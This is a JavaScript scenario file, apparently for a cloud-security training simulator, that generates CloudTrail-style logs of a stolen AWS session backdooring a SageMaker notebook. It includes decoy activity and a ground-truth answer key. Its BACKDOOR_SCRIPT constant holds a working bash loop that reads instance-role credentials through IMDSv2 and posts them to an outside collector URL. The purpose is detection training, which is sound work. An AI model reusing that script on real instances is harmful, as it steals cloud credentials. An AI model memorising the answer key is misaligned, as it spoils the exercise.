// SageMaker notebook lifecycle-configuration backdoor. Dasol Direct Insurance's data-platform team
// works in two notebook instances (claims-fraud-dev, owned by a data-platform engineer, and
// claims-triage-llm, owned by a data scientist) that share the execution role
// dasol-sagemaker-notebook-exec (claims training data, Bedrock). The team signs in through IAM
// Identity Center with the DataScientist permission set, which may manage notebook instances and
// their lifecycle configurations and pass the execution role.
//
// The engineer's cached CLI role credentials are stolen from his laptop. At 22:4x Seoul time on
// 10 March the same session (same ASIA key, same session name) is used from a hosting address with
// another client: it lists the instances and lifecycle configurations, reads the data scientist's
// package-install configuration, creates a look-alike configuration whose OnStart script installs
// the same packages and then posts the instance role's credentials (IMDSv2) to an outside HTTPS
// endpoint every 50 minutes, stops claims-triage-llm (left running for an overnight evaluation),
// attaches the configuration and starts it again. Once the instance is in service, the execution
// role's run credentials (the key SageMaker issued at that start) are used from a second hosting
// address: listing buckets, reading claim files from the training bucket and invoking Claude
// through Bedrock (resale-style bulk writing) until the next morning. The data scientist's own
// notebook work on 11 March uses the same run credentials from the instance's address.
//
// Decoys: the data scientist's ticketed lifecycle-configuration update the same afternoon (same
// APIs: CreateNotebookInstanceLifecycleConfig, Stop, UpdateNotebookInstance, Start) from the office;
// the owners starting, stopping and opening their notebooks; normal notebook work with the
// execution role (training-data reads, Bedrock Converse); the engineer's own daytime CLI work with
// the very key that is later stolen.

import { DASOL, DASOL_ML, lib, xcall } from './_worlds-u.mjs';

const { C, defineScenario, HOUR, iamRole, MIN, Playbooks, Prompts, UA } = lib;

const V = '2012-10-17';
const ACTOR_IP = '45.134.26.171'; // hosting provider: the stolen SSO session
const EXFIL_IP = '185.213.155.39'; // hosting provider: the execution role's credentials
const COLLECTOR = 'https://telemetry-sync.dasol-nb.net/v1/upload';
const SM_TRUST = {
  Version: V,
  Statement: [
    { Effect: 'Allow', Principal: { Service: 'sagemaker.amazonaws.com' }, Action: 'sts:AssumeRole' },
  ],
};
// public egress addresses SageMaker gives each instance run (direct internet access)
const EGRESS = {
  'claims-fraud-dev': ['3.36.172.19', '43.202.11.84'],
  'claims-triage-llm': ['15.164.201.33', '3.39.118.250'],
};
const BACKDOOR_EGRESS = '43.201.9.142';

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const PACKAGES_SCRIPT = `#!/bin/bash
set -e
# CHG: package baseline for claims-triage-llm (owner: data science)
sudo -u ec2-user -i <<'EOF'
source /home/ec2-user/anaconda3/bin/activate python3
pip install --quiet --index-url ${DASOL_ML.pipMirror} xgboost==2.1.1 boto3==1.35.36 langchain-aws==0.2.4 pyarrow==17.0.0
source /home/ec2-user/anaconda3/bin/deactivate
EOF
`;
const BACKDOOR_SCRIPT = `#!/bin/bash
set -e
sudo -u ec2-user -i <<'EOF'
source /home/ec2-user/anaconda3/bin/activate python3
pip install --quiet --index-url ${DASOL_ML.pipMirror} xgboost==2.1.1 boto3==1.35.36 langchain-aws==0.2.4 pyarrow==17.0.0
source /home/ec2-user/anaconda3/bin/deactivate
EOF
cat >/usr/local/bin/nb-telemetry <<'EOF'
#!/bin/bash
while true; do
  T=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 120")
  R=$(curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
  curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s -m 10 -X POST -H 'Content-Type: application/json' --data-binary @- ${COLLECTOR} >/dev/null 2>&1
  sleep 3000
done
EOF
chmod +x /usr/local/bin/nb-telemetry
nohup /usr/local/bin/nb-telemetry >/dev/null 2>&1 &
`;

export default defineScenario({
  name: 'notebook-lifecycle-backdoor',
  seed: 'fresh-u/notebook-lifecycle-backdoor/v1',
  start: '2026-03-10T00:00:00Z',
  days: 2,
  world: DASOL,
  background: {
    intensity: 0.85,
    chatbot: { conversationsPerHour: 40 },
    agent: { sessionsPerHour: 4 },
    ops: { random: 1 },
  },
  alert:
    'On the morning of 11 March the FinOps dashboard showed Bedrock charges in ap-northeast-2 about twelve times the usual overnight level, attributed to the role dasol-sagemaker-notebook-exec, which only the data-platform notebooks use.',
  truth: {
    description:
      "The IAM Identity Center CLI session of a data-platform engineer (DataScientist permission set; same ASIA access key and session name as his own daytime work from the office) was used from 45.134.26.171, a hosting address, from 22:4x Seoul time on 10 March with a different client. The actor listed the notebook instances and lifecycle configurations, read the data scientist's package configuration dasol-nb-conda-packages-v3 (created that afternoon under a change ticket), and created dasol-nb-conda-packages-v3-hotfix, whose OnStart script installs the same packages and then starts a loop that fetches the instance role's credentials from the instance metadata service (IMDSv2) and posts them to https://telemetry-sync.dasol-nb.net every 50 minutes. It stopped claims-triage-llm, attached the new configuration with UpdateNotebookInstance and started the instance again. SageMaker issued new run credentials for the execution role dasol-sagemaker-notebook-exec; from about 23:2x those credentials were used from 185.213.155.39 (another hosting address, not the instance's egress): caller identity, bucket listing, listing and downloading claim files from dasol-claims-ml-training (claim features with policyholder data), and Bedrock invocations of Claude (bulk role-play and writing tasks typical of resale) through the night. The data scientist's use of the same run credentials from the instance itself on 11 March is legitimate. Containment: detach and delete the lifecycle configuration and restart the instance, revoke the execution role's active sessions (aws:TokenIssueTime condition), end the engineer's Identity Center sessions and clean his laptop, block the collector domain, review what was read from the training bucket. The afternoon's ticketed lifecycle change, the owners' notebook starts, stops and presigned URLs, their notebook work and the engineer's daytime work are legitimate.",
    elements: ['access', 'infrastructure-changes', 'invocation', 'private-data'],
    components: ['foundation-models', 'training-data'],
    extra: {
      coverageGaps: [
        'What the lifecycle script did on the instance (its outbound posts of the credentials to the collector) is not in CloudTrail; only the configuration content, its attachment and the later use of the credentials are.',
      ],
    },
  },
  incident(sim, { rng, at, world: w }) {
    const acct = w.account.id;
    const home = w.homeRegion;
    const training = w.res.buckets.training;
    const s3o = { accountId: acct, region: home };
    const nbArn = (n) => `arn:aws:sagemaker:${home}:${acct}:notebook-instance/${n}`;
    const lccArn = (n) => `arn:aws:sagemaker:${home}:${acct}:notebook-instance-lifecycle-config/${n}`;
    const sm = (name, params, response, scope) => xcall('sagemaker', name, params, response, scope);

    // ---- principals -------------------------------------------------------------------------
    const execRole = iamRole(rng, acct, DASOL_ML.execRoleName, {
      trust: SM_TRUST,
      created: at('2025-04-22T02:11:09Z'),
      description: 'Execution role of the data-platform notebook instances',
    });
    execRole.inline.push({
      name: 'notebook-data-and-bedrock',
      document: {
        Version: V,
        Statement: [
          {
            Effect: 'Allow',
            Action: ['s3:GetObject', 's3:PutObject', 's3:ListBucket'],
            Resource: [`arn:aws:s3:::${training}`, `arn:aws:s3:::${training}/*`],
          },
          { Effect: 'Allow', Action: 's3:ListAllMyBuckets', Resource: '*' },
          {
            Effect: 'Allow',
            Action: [
              'bedrock:InvokeModel',
              'bedrock:InvokeModelWithResponseStream',
              'bedrock:Converse',
              'bedrock:ListFoundationModels',
            ],
            Resource: '*',
          },
        ],
      },
    });
    w.roles.notebookExec = execRole;
    const dsRole = w.sso.datasci;
    dsRole.inline.push({
      name: 'data-platform-notebooks',
      document: {
        Version: V,
        Statement: [
          {
            Effect: 'Allow',
            Action: [
              'sagemaker:ListNotebookInstances',
              'sagemaker:DescribeNotebookInstance',
              'sagemaker:StartNotebookInstance',
              'sagemaker:StopNotebookInstance',
              'sagemaker:UpdateNotebookInstance',
              'sagemaker:CreatePresignedNotebookInstanceUrl',
              'sagemaker:ListNotebookInstanceLifecycleConfigs',
              'sagemaker:DescribeNotebookInstanceLifecycleConfig',
              'sagemaker:CreateNotebookInstanceLifecycleConfig',
              'sagemaker:UpdateNotebookInstanceLifecycleConfig',
            ],
            Resource: '*',
          },
          { Effect: 'Allow', Action: 'iam:PassRole', Resource: execRole.arn },
        ],
      },
    });

    const ml = w.people.filter((p) => p.team === 'ml');
    const eng = ml[0]; // data-platform engineer, owner of claims-fraud-dev
    const sci = ml[1] ?? ml[0]; // data scientist, owner of claims-triage-llm
    const provider = `arn:aws:iam::${acct}:saml-provider/${w.sso.provider}`;
    const onBehalf = (p) => ({
      userId: p.ssoUserId,
      identityStoreArn: `arn:aws:identitystore::${acct}:identitystore/${w.sso.identityStore}`,
    });
    const samlUser = (p) => ({
      type: 'SAMLUser',
      principalId: `${rng.base62(28)}=:${p.email}`,
      userName: p.email,
      identityProvider: provider,
    });
    // a morning SSO sign-in: console and CLI sessions of the DataScientist permission set
    const signIn = (p, t0, ip) => {
      const ck = rng.iamId('ASIA');
      const lk = rng.iamId('ASIA');
      const cons = sim.roleSession(dsRole, p.email, {
        ip,
        userAgent: p.browser,
        accessKeyId: ck,
        created: t0,
        console: true,
        onBehalfOf: onBehalf(p),
        rng,
      });
      const cli = sim.roleSession(dsRole, p.email, {
        ip,
        userAgent: p.cli,
        accessKeyId: lk,
        created: t0 + 45000,
        onBehalfOf: onBehalf(p),
        rng,
      });
      sim.call(rng, t0, cons.with({ identity: samlUser(p), console: false }), {
        ...C.assumeRoleWithSAML(rng, dsRole, provider, ck, t0, { subject: p.email }),
        decoy: true,
      });
      sim.call(rng, t0 + 2500, cons.with({ console: false }), {
        ...C.consoleLogin({ federated: true }),
        tls: 'tls13',
        decoy: true,
      });
      sim.call(rng, t0 + 45000, cli.with({ identity: samlUser(p) }), {
        ...C.assumeRoleWithSAML(rng, dsRole, provider, lk, t0 + 45000, { subject: p.email }),
        decoy: true,
      });
      return { cons, cli };
    };

    // ---- notebook runs: SageMaker assumes the execution role at each start ----------------------
    const smSvc = sim.serviceSession('sagemaker.amazonaws.com');
    const run = (name, t, ip) => {
      const key = rng.iamId('ASIA');
      sim.call(
        rng,
        t,
        smSvc,
        C.assumeRole(rng, execRole, 'SageMaker', key, t, { duration: 43200, region: home }),
      );
      return sim.roleSession(execRole, 'SageMaker', {
        ip,
        userAgent: w.userAgents.notebook,
        accessKeyId: key,
        created: t,
        rng,
      });
    };
    const presigned = (name) =>
      sm(
        'CreatePresignedNotebookInstanceUrl',
        { notebookInstanceName: name },
        { authorizedUrl: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
        [nbArn(name)],
      );
    const start = (name) => sm('StartNotebookInstance', { notebookInstanceName: name }, null, [nbArn(name)]);
    const stop = (name) => sm('StopNotebookInstance', { notebookInstanceName: name }, null, [nbArn(name)]);
    const describe = (name) =>
      sm('DescribeNotebookInstance', { notebookInstanceName: name }, null, [nbArn(name)]);

    // notebook work with the execution role (decoy look-alike of the actor's later reads)
    const work = (nb, p, name, t, end) => {
      const prefix = name === 'claims-fraud-dev' ? 'fraud-features' : 'triage-eval';
      let n = 0;
      sim.tag({ decoy: true }, () => {
        while (t < end) {
          t += Math.round(rng.exp(16 * MIN));
          if (t >= end) break;
          const k = rng.weighted([
            ['get', 5],
            ['list', 2],
            ['put', 1.2],
            ['invoke', name === 'claims-triage-llm' ? 3 : 0.6],
          ]);
          if (k === 'get')
            sim.call(
              rng,
              t,
              nb,
              C.s3Object(
                rng,
                'GetObject',
                training,
                `${prefix}/2026/${rng.pick(['01', '02'])}/claims-${String(rng.int(0, 47)).padStart(4, '0')}.parquet`,
                { ...s3o, bytes: rng.int(3000000, 26000000) },
              ),
            );
          else if (k === 'list') sim.call(rng, t, nb, C.s3List(rng, training, `${prefix}/2026/`, s3o));
          else if (k === 'put')
            sim.call(
              rng,
              t,
              nb,
              C.s3Object(
                rng,
                'PutObject',
                training,
                `experiments/${p.username}/${name}/run-${String(++n).padStart(3, '0')}/metrics.json`,
                { ...s3o, bytes: rng.int(1500, 9000) },
              ),
            );
          else {
            const task = Prompts.devTask(rng, w);
            sim.runtime(rng, t, nb, {
              op: 'Converse',
              modelId: w.models.converse,
              region: home,
              prompt: task.user,
              answer: task.answer,
              maxTokens: 1024,
              temperature: 0,
            });
          }
        }
      });
    };

    // ===== 10 March =========================================================================
    // the engineer: office sign-in, starts his notebook, daytime CLI work (the key later stolen)
    const e1 = signIn(eng, at('2026-03-10T00:12:31Z'), w.net.office[0]);
    let t = at('2026-03-10T00:14:05Z');
    sim.tag({ decoy: true }, () => {
      sim.call(rng, t, e1.cons, sm('ListNotebookInstances', null));
      sim.call(rng, (t += rng.int(5, 20) * 1000), e1.cons, start('claims-fraud-dev'));
      sim.call(rng, (t += 6 * MIN + rng.int(0, 90) * 1000), e1.cons, describe('claims-fraud-dev'));
      sim.call(rng, (t += rng.int(3, 12) * 1000), e1.cons, presigned('claims-fraud-dev'));
    });
    const nbFraud = sim.tag({ decoy: true }, () =>
      run('claims-fraud-dev', at('2026-03-10T00:19:40Z'), EGRESS['claims-fraud-dev'][0]),
    );
    work(nbFraud, eng, 'claims-fraud-dev', t, at('2026-03-10T09:20:00Z'));
    let te = at('2026-03-10T01:30:00Z');
    sim.tag({ decoy: true }, () => {
      sim.call(rng, te, e1.cli, C.getCallerIdentity());
      for (const c of [
        sm('ListNotebookInstances', { maxResults: 50 }),
        sm('ListNotebookInstanceLifecycleConfigs', { maxResults: 50 }),
        describe('claims-fraud-dev'),
        C.s3List(rng, training, 'fraud-features/2026/02/', s3o),
        sm(
          'DescribeNotebookInstanceLifecycleConfig',
          { notebookInstanceLifecycleConfigName: 'dasol-nb-base' },
          null,
          [lccArn('dasol-nb-base')],
        ),
      ]) {
        te += rng.int(1, 25) * MIN;
        sim.call(rng, te, e1.cli, c);
      }
      for (let i = 0; i < 5; i++) {
        te += rng.int(20, 60) * MIN;
        sim.call(
          rng,
          te,
          e1.cli,
          rng.pick([
            describe('claims-fraud-dev'),
            C.s3List(rng, training, 'fraud-features/2026/', s3o),
            sm('ListNotebookInstances', { maxResults: 50 }),
          ]),
        );
      }
      // evening: he stops his notebook before leaving
      sim.call(
        rng,
        at('2026-03-10T09:31:22Z'),
        e1.cons.with({ ip: w.net.office[0] }),
        stop('claims-fraud-dev'),
      );
    });

    // the data scientist: her notebook has run since the 9th (overnight evaluation); office work
    const nbTriage0 = sim.tag({ decoy: true }, () =>
      run('claims-triage-llm', at('2026-03-09T23:50:10Z'), EGRESS['claims-triage-llm'][0]),
    );
    const s1 = signIn(sci, at('2026-03-10T00:41:07Z'), w.net.office[1]);
    t = at('2026-03-10T00:43:00Z');
    sim.tag({ decoy: true }, () => {
      sim.call(rng, t, s1.cons, describe('claims-triage-llm'));
      sim.call(rng, (t += rng.int(3, 12) * 1000), s1.cons, presigned('claims-triage-llm'));
    });
    work(nbTriage0, sci, 'claims-triage-llm', t, at('2026-03-10T04:55:00Z'));

    // ---- decoy: the ticketed lifecycle-configuration update (14:00-15:00 Seoul) -----------------
    const ticket = 'CHG-2026-0311';
    sim.planChange({
      ticket,
      window: { start: '2026-03-10T05:00:00Z', end: '2026-03-10T06:00:00Z' },
      owner: sci.email,
      summary:
        'SageMaker notebook claims-triage-llm: new lifecycle configuration dasol-nb-conda-packages-v3 (OnStart installs xgboost 2.1.1, boto3, langchain-aws, pyarrow from the internal pip mirror); stop, attach, start',
    });
    t = at('2026-03-10T05:07:33Z');
    sim.tag({ decoy: true }, () => {
      sim.call(rng, t, s1.cons, sm('ListNotebookInstanceLifecycleConfigs', { maxResults: 50 }));
      sim.call(
        rng,
        (t += rng.int(10, 40) * 1000),
        s1.cons,
        sm(
          'DescribeNotebookInstanceLifecycleConfig',
          { notebookInstanceLifecycleConfigName: 'dasol-nb-conda-packages-v2' },
          null,
          [lccArn('dasol-nb-conda-packages-v2')],
        ),
      );
      sim.call(
        rng,
        (t += rng.int(2, 5) * MIN),
        s1.cons,
        sm(
          'CreateNotebookInstanceLifecycleConfig',
          {
            notebookInstanceLifecycleConfigName: DASOL_ML.packagesLcc + '-v3',
            onStart: [{ content: b64(PACKAGES_SCRIPT) }],
          },
          { notebookInstanceLifecycleConfigArn: lccArn(DASOL_ML.packagesLcc + '-v3') },
          [lccArn(DASOL_ML.packagesLcc + '-v3')],
        ),
      );
      sim.call(rng, (t += rng.int(30, 90) * 1000), s1.cons, stop('claims-triage-llm'));
      sim.call(rng, (t += rng.int(3, 5) * MIN), s1.cons, describe('claims-triage-llm'));
      sim.call(
        rng,
        (t += rng.int(20, 60) * 1000),
        s1.cons,
        sm(
          'UpdateNotebookInstance',
          { notebookInstanceName: 'claims-triage-llm', lifecycleConfigName: DASOL_ML.packagesLcc + '-v3' },
          null,
          [nbArn('claims-triage-llm'), lccArn(DASOL_ML.packagesLcc + '-v3')],
        ),
      );
      sim.call(rng, (t += rng.int(20, 60) * 1000), s1.cons, start('claims-triage-llm'));
      sim.call(rng, (t += rng.int(6, 9) * MIN), s1.cons, describe('claims-triage-llm'));
      sim.call(rng, (t += rng.int(5, 20) * 1000), s1.cons, presigned('claims-triage-llm'));
    });
    const nbTriage1 = sim.tag({ decoy: true }, () =>
      run('claims-triage-llm', t - 2 * MIN, EGRESS['claims-triage-llm'][1]),
    );
    work(nbTriage1, sci, 'claims-triage-llm', t, at('2026-03-10T09:40:00Z'));
    // she starts an overnight evaluation and leaves the instance running
    sim.tag({ decoy: true }, () => {
      sim.call(rng, at('2026-03-10T09:44:10Z'), s1.cons, presigned('claims-triage-llm'));
    });

    // ---- the actor: the engineer's stolen CLI session from a hosting address ------------------
    const ACTOR_UA = UA.boto3(rng.fork('ua-actor'), { family: 'debian' });
    const a = sim.threat(e1.cli.with({ ip: ACTOR_IP, userAgent: ACTOR_UA, tls: 'tls12' }));
    t = at('2026-03-10T13:41:18Z');
    t = Playbooks.whoami(sim, rng, a, t);
    sim.call(rng, (t += rng.int(10, 30) * 1000), a, {
      ...sm('ListNotebookInstances', { maxResults: 100 }),
      key: true,
    });
    for (const name of Object.keys(DASOL_ML.notebooks))
      sim.call(rng, (t += rng.int(4, 15) * 1000), a, {
        ...describe(name),
        key: name === 'claims-triage-llm',
      });
    sim.call(
      rng,
      (t += rng.int(10, 30) * 1000),
      a,
      sm('ListNotebookInstanceLifecycleConfigs', {
        maxResults: 100,
        sortBy: 'LastModifiedTime',
        sortOrder: 'Descending',
      }),
    );
    sim.call(rng, (t += rng.int(5, 20) * 1000), a, {
      ...sm(
        'DescribeNotebookInstanceLifecycleConfig',
        { notebookInstanceLifecycleConfigName: DASOL_ML.packagesLcc + '-v3' },
        null,
        [lccArn(DASOL_ML.packagesLcc + '-v3')],
      ),
      key: true,
    });
    sim.call(rng, (t += rng.int(10, 30) * 1000), a, {
      ...C.iamGet('GetRole', { roleName: execRole.name }),
      response: null,
      error: {
        code: 'AccessDenied',
        message: `User: arn:aws:sts::${acct}:assumed-role/${dsRole.name}/${eng.email} is not authorized to perform: iam:GetRole on resource: role ${execRole.name} because no identity-based policy allows the iam:GetRole action`,
      },
    });
    const bad = DASOL_ML.packagesLcc + '-v3-hotfix';
    t = at('2026-03-10T13:52:46Z');
    sim.call(rng, t, a, {
      ...sm(
        'CreateNotebookInstanceLifecycleConfig',
        { notebookInstanceLifecycleConfigName: bad, onStart: [{ content: b64(BACKDOOR_SCRIPT) }] },
        { notebookInstanceLifecycleConfigArn: lccArn(bad) },
        [lccArn(bad)],
      ),
      key: true,
    });
    sim.call(rng, (t += rng.int(20, 50) * 1000), a, { ...stop('claims-triage-llm'), key: true });
    for (let i = 0; i < 3; i++)
      sim.call(rng, (t += rng.int(60, 100) * 1000), a, describe('claims-triage-llm'));
    sim.call(rng, (t += rng.int(20, 40) * 1000), a, {
      ...sm(
        'UpdateNotebookInstance',
        { notebookInstanceName: 'claims-triage-llm', lifecycleConfigName: bad },
        null,
        [nbArn('claims-triage-llm'), lccArn(bad)],
      ),
      key: true,
    });
    sim.call(rng, (t += rng.int(15, 40) * 1000), a, { ...start('claims-triage-llm'), key: true });
    const tRun = t + rng.int(4, 6) * MIN;
    for (let i = 0; i < 3; i++)
      sim.call(rng, (t += rng.int(100, 150) * 1000), a, describe('claims-triage-llm'));
    // the run that executes the backdoored OnStart script
    const nbBad = sim.tag({ malicious: true, scope: 'none' }, () =>
      run('claims-triage-llm', tRun, BACKDOOR_EGRESS),
    );
    sim.truth.addScope('resources', [nbArn('claims-triage-llm'), lccArn(bad), execRole.arn]);

    // ---- the execution role's credentials, used from outside -----------------------------------
    const x = sim.threat(
      nbBad.with({
        ip: EXFIL_IP,
        userAgent: UA.boto3(rng.fork('ua-exfil'), { family: 'ubuntu-aws' }),
        tls: 'tls12',
      }),
    );
    let tx = at('2026-03-10T14:24:51Z');
    sim.call(rng, tx, x, { ...C.getCallerIdentity(), key: true });
    sim.call(rng, (tx += rng.int(10, 40) * 1000), x, {
      ...C.s3ListBuckets(rng, { region: home }),
      key: true,
    });
    sim.call(rng, (tx += rng.int(20, 50) * 1000), x, { ...C.s3List(rng, training, '', s3o), key: true });
    for (const pre of ['fraud-features/2026/', 'triage-eval/2026/', 'raw-claims/2025/'])
      sim.call(rng, (tx += rng.int(5, 25) * 1000), x, C.s3List(rng, training, pre, s3o));
    for (let i = 0; i < 14; i++) {
      const k =
        i < 9
          ? `raw-claims/2025/${String(rng.int(1, 12)).padStart(2, '0')}/claims-export-${String(rng.int(0, 30)).padStart(3, '0')}.csv.gz`
          : `fraud-features/2026/${rng.pick(['01', '02'])}/claims-${String(rng.int(0, 47)).padStart(4, '0')}.parquet`;
      sim.call(rng, (tx += rng.int(6, 40) * 1000), x, {
        ...C.s3Object(rng, 'GetObject', training, k, { ...s3o, bytes: rng.int(9000000, 48000000) }),
        key: i === 0 || i === 9,
      });
    }
    tx += rng.int(3, 8) * MIN;
    sim.call(rng, tx, x, { ...C.bedrock('ListFoundationModels', null), region: home });
    Playbooks.abuseModels(sim, rng.fork('resale'), x, tx + 2 * MIN, at('2026-03-10T22:10:00Z'), {
      targets: [
        { region: home, model: w.models.converse, op: 'Converse', weight: 3 },
        { region: home, model: 'anthropic.claude-3-5-sonnet-20240620-v1:0', op: 'InvokeModel', weight: 1.5 },
        { region: 'ap-northeast-1', model: w.models.converse, op: 'Converse', weight: 0.8 },
      ],
      perHour: 40,
      content: 'mixed',
      keyFirst: true,
    });

    // ===== 11 March: normal use ================================================================
    const e2 = signIn(eng, at('2026-03-11T00:20:02Z'), rng.pick(eng.home));
    t = at('2026-03-11T00:22:30Z');
    sim.tag({ decoy: true }, () => {
      sim.call(rng, t, e2.cons, start('claims-fraud-dev'));
      sim.call(rng, (t += 7 * MIN), e2.cons, describe('claims-fraud-dev'));
      sim.call(rng, (t += rng.int(3, 12) * 1000), e2.cons, presigned('claims-fraud-dev'));
    });
    const nbFraud2 = sim.tag({ decoy: true }, () =>
      run('claims-fraud-dev', t - 90000, EGRESS['claims-fraud-dev'][1]),
    );
    work(nbFraud2, eng, 'claims-fraud-dev', t, at('2026-03-11T08:40:00Z'));
    const s2 = signIn(sci, at('2026-03-11T00:38:44Z'), w.net.office[0]);
    t = at('2026-03-11T00:40:10Z');
    sim.tag({ decoy: true }, () => {
      sim.call(rng, t, s2.cons, describe('claims-triage-llm'));
      sim.call(rng, (t += rng.int(3, 12) * 1000), s2.cons, presigned('claims-triage-llm'));
      sim.call(rng, at('2026-03-11T05:12:00Z'), s2.cons, presigned('claims-triage-llm'));
    });
    // her notebook work uses the same run credentials, from the instance
    work(nbBad.with({ ip: BACKDOOR_EGRESS }), sci, 'claims-triage-llm', t, at('2026-03-11T09:00:00Z'));
    void HOUR;
  },
});
